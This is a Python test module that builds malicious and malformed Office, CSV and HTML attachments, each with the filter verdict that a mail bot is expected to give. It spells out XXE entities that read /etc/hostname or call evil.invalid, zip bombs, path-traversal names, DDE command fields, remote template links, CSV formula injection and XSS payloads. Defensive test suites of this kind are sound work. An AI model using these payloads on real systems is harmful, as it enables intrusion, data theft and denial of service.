"""Hostile and broken files of our own making (Word, Excel, CSV, HTML), each with the verdict that it must get.

They reach the bot as the only attachment (HTML: as the body) of a valid reply.
"""

# ruff: noqa: E501 - a case stands on one line, its bytes included
from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
WORDS = '<w:p><w:r><w:t xml:space="preserve">Bench repaired in Mill Park.</w:t></w:r></w:p>'


class FileCase(NamedTuple):
    """A file: its name says how it is sent."""

    name: str
    data: bytes
    must: str


def zipped(parts: dict[str, str | bytes], level: int = 6) -> bytes:
    """A zip of the parts, in order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def relationships(*rows: tuple[str, str, bool]) -> str:
    """A .rels part; each row is (type, target, external)."""
    lines = [
        f'<Relationship Id="r{n}" Type="{RELS}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if out else ""}/>'
        for n, (kind, target, out) in enumerate(rows)
    ]
    return f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(lines)}</Relationships>'


def types(main: str, content_type: str, extra: str = "") -> str:
    """The content types part."""
    return (
        f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{extra}<Override PartName="{main}" ContentType="{content_type}"/></Types>'
    )


def word_parts(
    body: str = WORDS, rels: tuple[tuple[str, str, bool], ...] = (), **more: str | bytes
) -> dict[str, str | bytes]:
    """The parts of a small Word document; ``more`` adds parts, "__" standing for "/"."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": types("/word/document.xml", WORD_TYPE),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", False)),
        "word/document.xml": f"{HEAD}<w:document {W} {R}><w:body>{body}<w:sectPr/></w:body></w:document>",
    }
    if rels:
        parts["word/_rels/document.xml.rels"] = relationships(*rels)
    return {
        **parts,
        **{
            name.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin"): data for name, data in more.items()
        },
    }


def word(body: str = WORDS, rels: tuple[tuple[str, str, bool], ...] = (), **more: str | bytes) -> bytes:
    """A small Word document."""
    return zipped(word_parts(body, rels, **more))


CELLS = '<row r="1"><c r="A1" t="inlineStr"><is><t>Area</t></is></c><c r="B1" t="inlineStr"><is><t>Visits</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Mill Park</t></is></c><c r="B2"><v>120</v></c></row>'


def book_parts(rows: str = CELLS, sheets: str = "", cols: str = "", **more: str | bytes) -> dict[str, str | bytes]:
    """The parts of a small workbook."""
    second = f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SHEET_TYPE}"/>'
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": types("/xl/workbook.xml", BOOK_TYPE, second),
        "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": f'{HEAD}<workbook {S} {R}><sheets><sheet name="Sheet1" sheetId="1" r:id="r0"/>{sheets}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml", False)),
        "xl/worksheets/sheet1.xml": f"{HEAD}<worksheet {S}>{cols}<sheetData>{rows}</sheetData></worksheet>",
    }
    return {
        **parts,
        **{
            name.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin"): data for name, data in more.items()
        },
    }


def book(rows: str = CELLS, sheets: str = "", cols: str = "", **more: str | bytes) -> bytes:
    """A small workbook."""
    return zipped(book_parts(rows, sheets, cols, **more))


def zips() -> Iterator[FileCase]:
    """Packages that lie."""
    parts = word_parts()
    good = zipped(parts)
    yield FileCase("d-bomb.docx", zipped({**parts, "word/media/x.xml": b" " * 60_000_000}, 9), "reject")
    yield FileCase(
        "d-bomb-many.docx", zipped({**parts, **{f"word/media/{n}.bin": b" " * 900_000 for n in range(80)}}, 9), "reject"
    )
    yield FileCase(
        "d-many-members.docx", zipped({**parts, **{f"word/x{n}.xml": "<x/>" for n in range(2_500)}}), "reject"
    )
    yield FileCase("d-absolute-name.docx", zipped({**parts, "/tmp/evil.xml": "<x/>"}), "reject")
    yield FileCase("d-backslash-name.docx", zipped({**parts, "..\\..\\evil.xml": "<x/>"}), "reject")
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as package:
        for name, data in [*parts.items(), ("word/Document.xml", "<x/>")]:
            package.writestr(name, data)
    yield FileCase("d-same-name-other-case.docx", twice.getvalue(), "reject")
    at = good.index(b"word/document.xml")
    yield FileCase("d-local-name-differs.docx", good[:at] + b"word/dodument.xml" + good[at + 17 :], "reject")
    yield FileCase("d-cut.docx", good[: len(good) // 2], "reject")
    broken = bytearray(good)
    broken[good.index(b"word/document.xml") + 60] ^= 0xFF
    yield FileCase("d-bit-flip.docx", bytes(broken), "reject")
    lying = bytearray(good)
    place = good.rindex(b"word/document.xml") - 46 + 24
    lying[place : place + 4] = struct.pack("<L", 10)
    yield FileCase("d-lying-size.docx", bytes(lying), "reject")
    encrypted = bytearray(good)
    encrypted[good.rindex(b"PK\x01\x02") + 8] |= 1
    yield FileCase("d-encrypted-member.docx", bytes(encrypted), "reject")
    yield FileCase("d-old-format.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000, "reject")
    yield FileCase("d-rtf.docx", b"{\\rtf1 hello}", "reject")
    yield FileCase("d-not-a-zip.docx", b"PK\x03\x04" + b"\0" * 500, "reject")
    yield FileCase("d-program-before.docx", b"MZ\x90\0" + good, "reject")
    yield FileCase(
        "d-no-document.docx",
        zipped({name: data for name, data in parts.items() if name != "word/document.xml"} | {"word/x.xml": "<x/>"}),
        "reject",
    )


def xml() -> Iterator[FileCase]:
    """XML that attacks its parser."""
    for name, doctype in {
        "entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>',
        "remote": '<!DOCTYPE x SYSTEM "http://oob.evil.invalid/x.dtd">',
        "parameter": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://oob.evil.invalid/x"> %a;]>',
        "spaced": "<!DOCTYPE\n x []>",
    }.items():
        text = f"{HEAD}{doctype}<w:document {W}><w:body>{WORDS}</w:body></w:document>"
        yield FileCase(f"d-doctype-{name}.docx", zipped({**word_parts(), "word/document.xml": text}), "reject")
    text = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><w:document {W}><w:body>{WORDS}</w:body></w:document>'
    yield FileCase(
        "d-doctype-utf16.docx", zipped({**word_parts(), "word/document.xml": text.encode("utf-16")}), "reject"
    )
    rels = relationships().replace("?>", '?><!DOCTYPE x [<!ENTITY a "b">]>', 1)
    yield FileCase("d-doctype-rels.docx", zipped({**word_parts(), "word/_rels/document.xml.rels": rels}), "reject")
    yield FileCase("d-depth.docx", word("<w:p>" * 3_000 + "</w:p>" * 3_000), "reject")
    yield FileCase(
        "d-nested-tables.docx", word("<w:tbl><w:tr><w:tc>" * 200 + WORDS + "</w:tc></w:tr></w:tbl>" * 200), "reject"
    )
    yield FileCase("d-elements.docx", word(WORDS + "<w:p/>" * 2_000_000), "reject")
    yield FileCase(
        "d-columns.docx", word(f"<w:tbl><w:tblGrid>{'<w:gridCol/>' * 5_000}</w:tblGrid></w:tbl>{WORDS}"), "reject"
    )
    yield FileCase(
        "d-cells.docx", word(f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 5_000}</w:tr></w:tbl>{WORDS}"), "reject"
    )
    yield FileCase(
        "d-span-odd.docx",
        word(f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="9e9"/></w:tcPr>{WORDS}</w:tc></w:tr></w:tbl>'),
        "reject",
    )
    yield FileCase("d-not-xml.docx", zipped({**word_parts(), "word/document.xml": "hello"}), "reject")
    yield FileCase(
        "d-bad-character.docx",
        zipped(
            {
                **word_parts(),
                "word/document.xml": f"{HEAD}<w:document {W}><w:body><w:p><w:r><w:t>a\x0bb</w:t></w:r></w:p></w:body></w:document>",
            }
        ),
        "reject",
    )


def word_content() -> Iterator[FileCase]:
    """What Word files carry besides words."""
    ole = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="r0"/></w:object></w:r></w:p>'
    yield FileCase(
        "d-ole.docx",
        word(
            WORDS + ole,
            (("oleObject", "embeddings/o1.bin", False),),
            word__embeddings__o1_bin=b"\xd0\xcf\x11\xe0" + b"\0" * 99,
        ),
        "reject",
    )
    yield FileCase(
        "d-altchunk.docx", word(f'{WORDS}<w:altChunk r:id="r0"/>', (("aFChunk", "c.html", False),)), "reject"
    )
    yield FileCase("d-subdocument.docx", word(WORDS, (("subDocument", "file://evil.invalid/x.docx", True),)), "reject")
    template = {"word/settings.xml": f"<w:settings {W} {R}><w:attachedTemplate r:id='r0'/></w:settings>"}
    for name, target, must in (("unc", "\\\\evil.invalid\\s\\t.dotm", "reject"), ("http", "http://evil.invalid/t.dotm", "reject"),
                               ("local", "file:///C:\\Users\\jo\\Normal.dotm", "accept")):  # fmt: skip
        rels = {"word/_rels/settings.xml.rels": relationships(("attachedTemplate", target, True))}
        yield FileCase(f"d-template-{name}.docx", zipped({**word_parts(), **template, **rels}), must)
    dde = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\x "/c" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    yield FileCase("d-dde.docx", word(WORDS + dde), "reject")
    yield FileCase(
        "d-dde-split.docx",
        word(WORDS + dde.replace("DDEAUTO", "DD</w:instrText></w:r><w:r><w:instrText>EAUTO")),
        "reject",
    )
    yield FileCase(
        "d-include.docx",
        word(
            f'{WORDS}<w:p><w:fldSimple w:instr=" INCLUDETEXT \\\\\\\\evil\\\\x "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        ),
        "sanitize",
    )
    yield FileCase("d-macro-part.docx", word(word__vbaProject_bin=b"x" * 50), "reject")
    yield FileCase("d-activex.docx", word(word__activeX__a1_xml="<x/>"), "reject")
    yield FileCase("d-program-part.docx", word(word__media__i1_bin=b"MZ" + b"\0" * 99), "reject")
    yield FileCase("d-remote-picture.docx", word(WORDS, (("image", "//evil.invalid/p.png", True),)), "sanitize")
    yield FileCase("d-link-javascript.docx", word(WORDS, (("hyperlink", "javascript:alert(1)", True),)), "sanitize")
    yield FileCase(
        "d-link-userinfo.docx",
        word(WORDS, (("hyperlink", "https://council.example.org@evil.invalid/", True),)),
        "sanitize",
    )
    yield FileCase(
        "d-hidden.docx", word(f"{WORDS}<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>SECRET</w:t></w:r></w:p>"), "sanitize"
    )
    yield FileCase("d-bidi.docx", word(f"{WORDS}<w:p><w:r><w:t>\u202etxet</w:t></w:r></w:p>"), "sanitize")
    yield FileCase("d-metadata.docx", word(docProps__custom_xml="<Properties/>"), "sanitize")
    for tag in ("ins", "del", "moveFrom", "moveTo"):
        yield FileCase(
            f"d-tracked-{tag}.docx",
            word(f'{WORDS}<w:p><w:{tag} w:id="1" w:author="A"><w:r><w:t>x</w:t></w:r></w:{tag}></w:p>'),
            "quarantine",
        )
    yield FileCase(
        "d-comments.docx",
        word('<w:p><w:r><w:t>x</w:t></w:r><w:r><w:commentReference w:id="1"/></w:r></w:p>'),
        "quarantine",
    )
    yield FileCase("d-no-words.docx", word("<w:p/>"), "quarantine")
    yield FileCase("d-control-plain.docx", word(), "accept")
    yield FileCase(
        "d-control-names.docx",
        word("<w:p><w:r><w:t>Fish &amp; chips &lt;b&gt; {{ 7*7 }} £5 café 中文 😀</w:t></w:r></w:p>"),
        "accept",
    )
    yield FileCase(
        "d-control-link.docx",
        word(
            WORDS,
            (
                ("hyperlink", "https://www.council.example.org/parks", True),
                ("hyperlink", "mailto:parks@council.example.org", True),
            ),
        ),
        "accept",
    )
    yield FileCase(
        "d-control-table.docx",
        word(f"<w:tbl><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{WORDS}</w:tc></w:tr></w:tbl>{WORDS}"),
        "accept",
    )
    yield FileCase(
        "d-control-textbox.docx",
        word(
            f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>{WORDS}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>'
        ),
        "accept",
    )
    yield FileCase(
        "d-control-formatting-change.docx",
        word(
            '<w:p><w:r><w:rPr><w:b/><w:rPrChange w:id="1" w:author="A"><w:rPr/></w:rPrChange></w:rPr><w:t>x</w:t></w:r></w:p>'
        ),
        "accept",
    )
    yield FileCase(
        "d-control-not-hidden.docx",
        word('<w:p><w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>x</w:t></w:r></w:p>'),
        "accept",
    )


def sheets() -> Iterator[FileCase]:
    """Workbooks."""
    yield FileCase(
        "x-bomb.xlsx", zipped({**book_parts(), "xl/worksheets/sheet2.xml": b"<row/>" * 12_000_000}, 9), "reject"
    )
    yield FileCase("x-elements.xlsx", book('<row r="1"/>' * 1_200_000), "reject")
    yield FileCase("x-far-cell.xlsx", book('<row r="1"><c r="ZZZZ1"><v>1</v></c></row>'), "reject")
    yield FileCase(
        "x-doctype.xlsx",
        zipped({**book_parts(), "xl/sharedStrings.xml": f'{HEAD}<!DOCTYPE x [<!ENTITY a "b">]><sst {S}/>'}),
        "reject",
    )
    yield FileCase("x-macro.xlsx", book(xl__vbaProject_bin=b"x" * 50), "reject")
    yield FileCase("x-macrosheet.xlsx", book(xl__macrosheets__sheet1_xml="<x/>"), "reject")
    link = f"<externalLink {S}><ddeLink ddeService='cmd' ddeTopic='/c'/></externalLink>"
    yield FileCase("x-dde.xlsx", book(xl__externalLinks__externalLink1_xml=link), "reject")
    yield FileCase(
        "x-external.xlsx",
        book(xl__externalLinks__externalLink1_xml=f"<externalLink {S}><externalBook/></externalLink>"),
        "sanitize",
    )
    yield FileCase(
        "x-webservice.xlsx",
        book('<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.invalid/")</f><v>1</v></c></row>'),
        "sanitize",
    )
    yield FileCase(
        "x-formula-text.xlsx", book('<row r="1"><c r="A1" t="inlineStr"><is><t>=1+1</t></is></c></row>'), "sanitize"
    )
    yield FileCase(
        "x-hidden-sheet.xlsx", book(sheets='<sheet name="S" sheetId="2" state="hidden" r:id="r1"/>'), "sanitize"
    )
    yield FileCase("x-hidden-row.xlsx", book(CELLS.replace('<row r="2">', '<row r="2" hidden="1">')), "sanitize")
    yield FileCase("x-hidden-column.xlsx", book(cols='<cols><col min="2" max="2" hidden="1"/></cols>'), "sanitize")
    yield FileCase("x-csv-inside.xlsx", b"Area,Visits\nMill Park,120\n", "reject")
    yield FileCase("x-old-format.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000, "reject")
    yield FileCase("x-word-inside.xlsx", word(), "reject")
    yield FileCase("x-control.xlsx", book(), "accept")
    yield FileCase(
        "x-control-sum.xlsx", book(CELLS + '<row r="3"><c r="B3"><f>SUM(B2:B2)</f><v>120</v></c></row>'), "accept"
    )
    yield FileCase(
        "x-control-negative.xlsx",
        book(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>-5</t></is></c><c r="B1" t="inlineStr"><is><t>+44 1632 960123</t></is></c></row>'
        ),
        "accept",
    )


def tables() -> Iterator[FileCase]:
    """CSV files."""
    yield FileCase("v-formula.csv", b"Name,Value\nx,=1+1\n", "sanitize")
    yield FileCase("v-at.csv", b"Name,Value\nx,@SUM(1)\n", "sanitize")
    yield FileCase("v-full-width.csv", "Name,Value\nx,＝1\n".encode(), "sanitize")
    yield FileCase("v-tab.csv", b'Name,Value\nx,"\t=1"\n', "sanitize")
    yield FileCase("v-nul.csv", b"Name,Value\nx,1\0\n", "sanitize")
    yield FileCase("v-long-cell.csv", b"a,b\nx," + b"y" * 400_000 + b"\n", "reject")
    yield FileCase("v-open-quote.csv", b'a,b\nx,"' + b"y\n" * 200_000, "reject")
    yield FileCase("v-cells.csv", b"," * 900_000, "reject")
    yield FileCase("v-big.csv", b"a,b\n" * 2_000_000, "reject")
    yield FileCase("v-gzip.csv", gzip.compress(b"a,b\n" * 10), "reject")
    yield FileCase("v-zlib.csv", zlib.compress(bytes(range(256)) * 20), "reject")
    yield FileCase("v-html.csv", b"<html><body><table><tr><td>1</td></tr></table></body></html>", "reject")
    yield FileCase("v-exe.csv", b"MZ\x90\0" + b"\0" * 99, "reject")
    yield FileCase("v-xlsx.csv", book(), "reject")
    yield FileCase("v-control-utf16.csv", "Area,Visits\nMill Park,120\n".encode("utf-16"), "accept")
    yield FileCase("v-control-bom.csv", "\ufeffArea,Visits\nCafé,7\n".encode(), "accept")
    yield FileCase("v-control-semicolon.csv", b"Area;Visits\nMill Park;120\n", "accept")
    yield FileCase("v-control-cp1252.csv", "Area,Cost\nCafé,£50\n".encode("cp1252"), "accept")
    yield FileCase("v-control-negative.csv", b"Area,Change\nMill Park,-5\nOld Road,+12\nNorth,-3.5%\n", "accept")
    yield FileCase("v-control-dash.csv", "Area,Change\nMill Park,-\nOld Road,– none –\n".encode(), "accept")
    yield FileCase("v-control-ragged.csv", b"Area,Visits,\nMill Park\n\nNorth,1,2,3\n", "accept")


def page(body: str) -> bytes:
    """An HTML mail body."""
    return f'<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><p>Bench repaired.</p>{body}</body></html>'.encode()


def pages() -> Iterator[FileCase]:
    """HTML bodies."""
    dangers = {
        "iframe": '<iframe src="https://evil.invalid/"></iframe>',
        "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
        "base": '<base href="http://evil.invalid/">',
        "form": '<form action="http://evil.invalid/"><input name=p></form>',
        "handler": "<p onmouseover=alert(1)>x</p>",
        "handler-slash": "<img/onerror=alert(1)/src=x>",
        "svg": "<svg><script>alert(1)</script></svg>",
        "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "pixel": '<img src="http://track.evil.invalid/p.png" width=1 height=1>',
        "css-remote": '<p style="background:url(http://evil.invalid/x)">x</p>',
        "unc-picture": '<img src="\\\\evil.invalid\\x.png">',
        "link-javascript": '<a href="&#106;avascript:alert(1)">x</a>',
        "link-data": '<a href="data:text/html,x">x</a>',
        "link-tab": '<a href="jav\tascript:alert(1)">x</a>',
        "link-other-host": '<a href="https://evil.invalid/">www.council.example.org</a>',
        "link-bcc": '<a href="mailto:a@b.example?bcc=v@evil.invalid">x</a>',
        "hidden-visibility": '<p style="visibility:hidden">HIDDEN</p>',
        "hidden-white": '<p style="color:#FFFFFF">HIDDEN</p>',
        "hidden-off-screen": '<p style="position:absolute;left:-5000px">HIDDEN</p>',
        "hidden-zero": '<p style="font-size:0px">HIDDEN</p>',
        "hidden-outlook": '<p style="mso-hide:all">HIDDEN</p>',
        "control-character": "<p>a&#11;b</p>",
        "bidi": "<p>a&#x202e;b</p>",
    }
    for name, body in dangers.items():
        yield FileCase(f"h-{name}.html", page(body), "sanitize")
    yield FileCase("h-depth.html", page("<div>" * 5_000), "reject")
    yield FileCase("h-depth-span.html", page("<b><i>" * 400 + "x"), "reject")
    yield FileCase("h-tags.html", page("<b>x</b>" * 150_000), "reject")
    yield FileCase("h-attributes.html", page(f"<p {' '.join(f'a{n}=1' for n in range(9_000))}>x</p>"), "reject")
    fine = {
        "plain": "<h2>Parks</h2><ul><li>one<li>two</ul><p>Fish &amp; chips {{ 7*7 }}</p>",
        "outlook": '<!--[if gte mso 9]><xml></xml><![endif]--><p class=MsoNormal style="margin:0cm"><span lang=EN-GB style="font-size:11.0pt;color:#1F497D">Text<o:p></o:p></span></p>',
        "links": '<a href="https://www.council.example.org/a?b=c&amp;d=e">More</a> <a href="https://council.example.org/">www.council.example.org</a> <a href="mailto:a@b.example">a@b.example</a> <a href="tel:01632960123">01632 960123</a>',
        "safelink": '<a href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.council.example.org%2Fx&amp;data=1">https://www.council.example.org/x</a>',
        "unclosed": "<p>one<p>two<br><table><tr><td>1<td>2</table>" * 300,
        "inline-picture": '<img src="cid:image001.png@01D"><img src="data:image/png;base64,iVBORw0KGgo=">',
    }
    for name, body in fine.items():
        yield FileCase(f"h-control-{name}.html", page(body), "accept")


def all_files() -> list[FileCase]:
    """Every case."""
    return [case for family in (zips, xml, word_content, sheets, tables, pages) for case in family()]
